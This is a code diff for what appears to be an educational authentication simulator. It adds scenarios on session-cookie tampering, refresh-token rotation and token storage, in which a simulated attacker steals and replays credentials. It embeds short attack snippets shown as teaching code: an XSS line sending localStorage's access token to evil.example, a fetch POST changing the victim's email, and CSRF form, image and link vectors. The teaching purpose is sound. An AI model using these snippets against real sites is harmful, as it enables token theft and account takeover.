@@ -14,6 +14,8 @@ import {
   type Counters,
   type Exchange,
   type NodeId,
+  type RefreshStats,
+  type SendOptions,
   type StoreStats,
   type Topology,
 } from './world';
@@ -25,6 +27,9 @@ export const SIM_IDS = [
   'jwt-login',
   'logout',
   'authn-authz',
+  'authn-authz-cookie',
+  'refresh-rotation',
+  'token-storage',
 ] as const;
 export type SimId = (typeof SIM_IDS)[number];
 
@@ -46,14 +51,18 @@ export interface Step {
   params: Params;
   exchange: Exchange | null;
   /** For a set-up change: what changed. */
-  action: 'configure' | 'restart' | 'wait' | 'leak' | 'growth' | null;
+  action: 'configure' | 'restart' | 'wait' | 'leak' | 'growth' | 'steal' | null;
   topology: Topology;
   /** The simulated time after the step. */
   now: number;
   counters: Counters;
   browser: BrowserView;
   memory: { name: string; entries: number; bytes: number; restarts: number }[];
-  stores: { shared: StoreStats; denyList: StoreStats };
+  stores: { shared: StoreStats; denyList: StoreStats; refresh: RefreshStats };
+  /** What the attacker holds; null while the scenario has no attacker. */
+  attacker: [string, string][] | null;
+  /** Script an attacker got to run in the victim's page (XSS), shown as code. */
+  script: string | null;
   /** Boxes to highlight in the diagram. */
   active: NodeId[];
   growth: GrowthRow[] | null;
@@ -72,6 +81,30 @@ export interface SimRun {
 }
 
 const LOGIN = `username=alice&password=${USERS.alice!.password}`;
+/** Form-encoded as a browser would: "@" becomes %40. */
+const EVIL_EMAIL = 'email=mallory%40evil.example';
+
+const refreshBody = (token: string | undefined): string =>
+  `grant_type=refresh_token&refresh_token=${token ?? ''}`;
+
+/**
+ * What the attackers' code looks like, shown beside the steps it drives. Code only, no prose, so
+ * it reads the same in both languages; the heading above it says where it runs.
+ */
+const XSS_READ = `const t = localStorage.getItem('access_token');
+new Image().src = 'https://evil.example/c?t=' + t;`;
+const XSS_COOKIE = `document.cookie   // → ""`;
+const XSS_FETCH = `fetch('/settings', {
+  method: 'POST',
+  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+  body: 'email=mallory%40evil.example',
+});`;
+const CSRF_FORM = `<form method="POST" action="https://app.example/settings">
+  <input name="email" value="mallory@evil.example">
+</form>
+<script>document.forms[0].submit()</script>`;
+const CSRF_IMG = `<img src="https://app.example/profile">`;
+const CSRF_LINK = `<a href="https://app.example/profile">app.example/profile</a>`;
 const GROWTH = [10, 100, 1000, 10000];
 
 /** Records steps over a world. */
@@ -92,6 +125,7 @@ export class Recorder {
     action: Step['action'],
     active: NodeId[],
     growth: GrowthRow[] | null = null,
+    script: string | null = null,
   ): Step {
     const step: Step = {
       explain,
@@ -104,6 +138,8 @@ export class Recorder {
       browser: this.world.browserView(),
       memory: this.world.serverMemory(),
       stores: this.world.storeView(),
+      attacker: this.world.attackerView(),
+      script,
       active,
       growth,
       leakedSecret: this.leaked,
@@ -117,7 +153,7 @@ export class Recorder {
     explain: string,
     method: 'GET' | 'POST',
     path: string,
-    options: { body?: string; bearer?: string; cookie?: string } = {},
+    options: SendOptions = {},
     params: Params = {},
   ): Promise<Exchange> {
     const x = await this.world.send(method, path, options);
@@ -125,8 +161,8 @@ export class Recorder {
     return x;
   }
 
-  /** Records an exchange that has happened. */
-  record(explain: string, x: Exchange, params: Params = {}): void {
+  /** Records an exchange that has happened; `script` is the attacker's code that sent it. */
+  record(explain: string, x: Exchange, params: Params = {}, script: string | null = null): void {
     this.snapshot(
       explain,
       {
@@ -140,7 +176,22 @@ export class Recorder {
       x,
       null,
       x.hops,
+      null,
+      script,
     );
+  }
+
+  /** Sends a request that an attacker's code makes the victim's browser send, with that code. */
+  async sendScripted(
+    explain: string,
+    method: 'GET' | 'POST',
+    path: string,
+    options: SendOptions,
+    script: string,
+  ): Promise<Exchange> {
+    const x = await this.world.send(method, path, options);
+    this.record(explain, x, {}, script);
+    return x;
   }
 
   /** Sends with the token the page's script holds, as "Authorization: Bearer". */
@@ -163,6 +214,17 @@ export class Recorder {
     this.snapshot(explain, { server: this.world.servers[server]!.name }, null, 'restart', [
       `server-${server}`,
     ]);
+  }
+
+  /**
+   * The attacker gets hold of something: a copied cookie, or what an injected script read. With a
+   * script, it is shown as the code that ran in the victim's page.
+   */
+  steal(explain: string, loot: [string, string][], script: string | null = null): void {
+    this.world.meetAttacker();
+    for (const [name, value] of loot) this.world.steal(name, value);
+    const active: NodeId[] = script ? ['browser', 'attacker'] : ['attacker'];
+    this.snapshot(explain, { items: loot.length }, null, 'steal', active, null, script);
   }
 
   wait(explain: string, seconds: number): void {
@@ -247,25 +309,39 @@ const SCRIPTS: Record<SimId, { topology: Partial<Topology>; script: Script }> = 
     topology: { servers: 1, auth: 'session', store: 'memory' },
     async script(r) {
       await r.send('sim.logout.login', 'POST', '/login', { body: LOGIN });
-      const sid = r.world.browser.cookies(r.world.now).find((c) => c.name === 'sid');
+      const sid = r.world.browser.cookies(r.world.now).find((c) => c.name === 'sid')?.value ?? '';
+      r.steal('sim.logout.steal', [['sid', sid]]);
       await r.send('sim.logout.profile', 'GET', '/profile');
       await r.send('sim.logout.logout', 'POST', '/logout');
+      // The attacker replays the copy from their own machine; alice's jar is empty by now.
       await r.send('sim.logout.replay', 'GET', '/profile', {
-        cookie: `sid=${sid?.value ?? ''}`,
+        client: 'attacker',
+        cookie: `sid=${sid}`,
       });
       r.configure('sim.logout.jwt', { auth: 'jwt' });
       await r.send('sim.logout.jwt-login', 'POST', '/login', { body: LOGIN });
       const stolen = r.world.token ?? '';
+      r.steal('sim.logout.jwt-steal', [['access_token', stolen]]);
       await r.sendBearer('sim.logout.jwt-profile', 'GET', '/profile');
       await r.sendBearer('sim.logout.jwt-logout', 'POST', '/logout');
-      await r.send('sim.logout.jwt-replay', 'GET', '/profile', { bearer: stolen });
+      await r.send('sim.logout.jwt-replay', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: stolen,
+      });
       r.wait('sim.logout.wait', 15 * 60);
-      await r.send('sim.logout.jwt-expired', 'GET', '/profile', { bearer: stolen });
+      await r.send('sim.logout.jwt-expired', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: stolen,
+      });
       r.configure('sim.logout.deny', { denyList: true });
       await r.send('sim.logout.deny-login', 'POST', '/login', { body: LOGIN });
       const copy = r.world.token ?? '';
+      r.steal('sim.logout.deny-steal', [['access_token', copy]]);
       await r.sendBearer('sim.logout.deny-logout', 'POST', '/logout');
-      await r.send('sim.logout.deny-replay', 'GET', '/profile', { bearer: copy });
+      await r.send('sim.logout.deny-replay', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: copy,
+      });
     },
   },
   'authn-authz': {
@@ -284,6 +360,143 @@ const SCRIPTS: Record<SimId, { topology: Partial<Topology>; script: Script }> = 
       const resigned = await signPayload(payloadText(forged) ?? '{}', r.world.secret);
       await r.send('sim.authn-authz.resigned', 'GET', '/admin', { bearer: resigned });
       await r.send('sim.authn-authz.resigned-profile', 'GET', '/profile', { bearer: resigned });
+    },
+  },
+  'authn-authz-cookie': {
+    topology: { servers: 1, auth: 'session', store: 'memory' },
+    async script(r) {
+      await r.send('sim.authn-authz-cookie.anonymous', 'GET', '/profile');
+      await r.send('sim.authn-authz-cookie.bad-login', 'POST', '/login', {
+        body: 'username=alice&password=guess',
+      });
+      await r.send('sim.authn-authz-cookie.login', 'POST', '/login', { body: LOGIN });
+      await r.send('sim.authn-authz-cookie.profile', 'GET', '/profile');
+      await r.send('sim.authn-authz-cookie.admin', 'GET', '/admin');
+      // alice edits her own cookie in DevTools, as she edited the token's role in scenario 6.
+      const sid = r.world.browser.cookies(r.world.now).find((c) => c.name === 'sid')?.value ?? '';
+      r.world.browser.editCookie('sid', `${sid.startsWith('A') ? 'B' : 'A'}${sid.slice(1)}`);
+      await r.send('sim.authn-authz-cookie.edited', 'GET', '/admin');
+      r.world.browser.clear();
+      await r.send('sim.authn-authz-cookie.admin-login', 'POST', '/login', {
+        body: `username=carol&password=${USERS.carol!.password}`,
+      });
+      await r.send('sim.authn-authz-cookie.admin-ok', 'GET', '/admin');
+    },
+  },
+  'refresh-rotation': {
+    topology: { servers: 1, auth: 'jwt', refresh: true, accessTtl: 300 },
+    async script(r) {
+      const w = r.world;
+      await r.send('sim.refresh-rotation.login', 'POST', '/login', { body: LOGIN });
+      await r.sendBearer('sim.refresh-rotation.profile', 'GET', '/profile');
+      r.wait('sim.refresh-rotation.wait', 300);
+      await r.sendBearer('sim.refresh-rotation.expired', 'GET', '/profile');
+      await r.send('sim.refresh-rotation.refresh', 'POST', '/token', {
+        body: refreshBody(w.refreshToken),
+      });
+      await r.sendBearer('sim.refresh-rotation.profile-again', 'GET', '/profile');
+      const current = w.refreshToken ?? '';
+      r.steal('sim.refresh-rotation.steal', [['refresh_token', current]]);
+      r.wait('sim.refresh-rotation.wait-again', 300);
+      await r.send('sim.refresh-rotation.thief-refresh', 'POST', '/token', {
+        client: 'attacker',
+        body: refreshBody(current),
+      });
+      await r.send('sim.refresh-rotation.thief-profile', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: w.loot?.get('access_token') ?? '',
+      });
+      await r.send('sim.refresh-rotation.reuse', 'POST', '/token', {
+        body: refreshBody(w.refreshToken),
+      });
+      await r.send('sim.refresh-rotation.thief-refresh-again', 'POST', '/token', {
+        client: 'attacker',
+        body: refreshBody(w.loot?.get('refresh_token')),
+      });
+      await r.send('sim.refresh-rotation.thief-still', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: w.loot?.get('access_token') ?? '',
+      });
+      r.wait('sim.refresh-rotation.wait-end', 300);
+      await r.send('sim.refresh-rotation.thief-expired', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: w.loot?.get('access_token') ?? '',
+      });
+      await r.send('sim.refresh-rotation.login-again', 'POST', '/login', { body: LOGIN });
+    },
+  },
+  'token-storage': {
+    topology: { servers: 1, auth: 'jwt', tokenIn: 'body' },
+    async script(r) {
+      const w = r.world;
+      w.meetAttacker();
+      await r.send('sim.token-storage.login', 'POST', '/login', { body: LOGIN });
+      await r.sendBearer('sim.token-storage.profile', 'GET', '/profile');
+      const token = w.token ?? '';
+      r.steal('sim.token-storage.xss-read', [['access_token', token]], XSS_READ);
+      await r.send('sim.token-storage.thief', 'GET', '/profile', {
+        client: 'attacker',
+        bearer: token,
+      });
+      await r.sendScripted(
+        'sim.token-storage.csrf-bearer',
+        'POST',
+        '/settings',
+        { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
+        CSRF_FORM,
+      );
+      // Round two, in a fresh browser; the attacker's copy from round one is set aside.
+      w.browser.clear();
+      w.loot?.clear();
+      r.configure('sim.token-storage.cookie', { tokenIn: 'cookie', sameSite: 'Lax' });
+      await r.send('sim.token-storage.cookie-login', 'POST', '/login', { body: LOGIN });
+      await r.send('sim.token-storage.cookie-profile', 'GET', '/profile');
+      r.steal('sim.token-storage.xss-cookie', [], XSS_COOKIE);
+      await r.sendScripted(
+        'sim.token-storage.xss-ride',
+        'POST',
+        '/settings',
+        { initiator: 'xss', body: EVIL_EMAIL },
+        XSS_FETCH,
+      );
+      await r.sendScripted(
+        'sim.token-storage.csrf-post',
+        'POST',
+        '/settings',
+        { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
+        CSRF_FORM,
+      );
+      await r.sendScripted(
+        'sim.token-storage.csrf-img',
+        'GET',
+        '/profile',
+        { initiator: 'evil' },
+        CSRF_IMG,
+      );
+      await r.sendScripted(
+        'sim.token-storage.csrf-link',
+        'GET',
+        '/profile',
+        { initiator: 'evil', navigation: true },
+        CSRF_LINK,
+      );
+      r.configure('sim.token-storage.strict', { sameSite: 'Strict' });
+      await r.send('sim.token-storage.strict-login', 'POST', '/login', { body: LOGIN });
+      await r.sendScripted(
+        'sim.token-storage.strict-link',
+        'GET',
+        '/profile',
+        { initiator: 'evil', navigation: true },
+        CSRF_LINK,
+      );
+      await r.send('sim.token-storage.logout', 'POST', '/logout');
+      const big = await w.send('POST', '/login', {
+        body: `username=bob&password=${USERS.bob!.password}`,
+      });
+      const setCookie = big.response.headers.find(([n]) => n === 'Set-Cookie')?.[1] ?? '';
+      const pair = setCookie.split(';')[0] ?? '';
+      r.record('sim.token-storage.big-login', big, { cookie: pair.length - 1 });
+      await r.send('sim.token-storage.big-profile', 'GET', '/profile');
     },
   },
 };
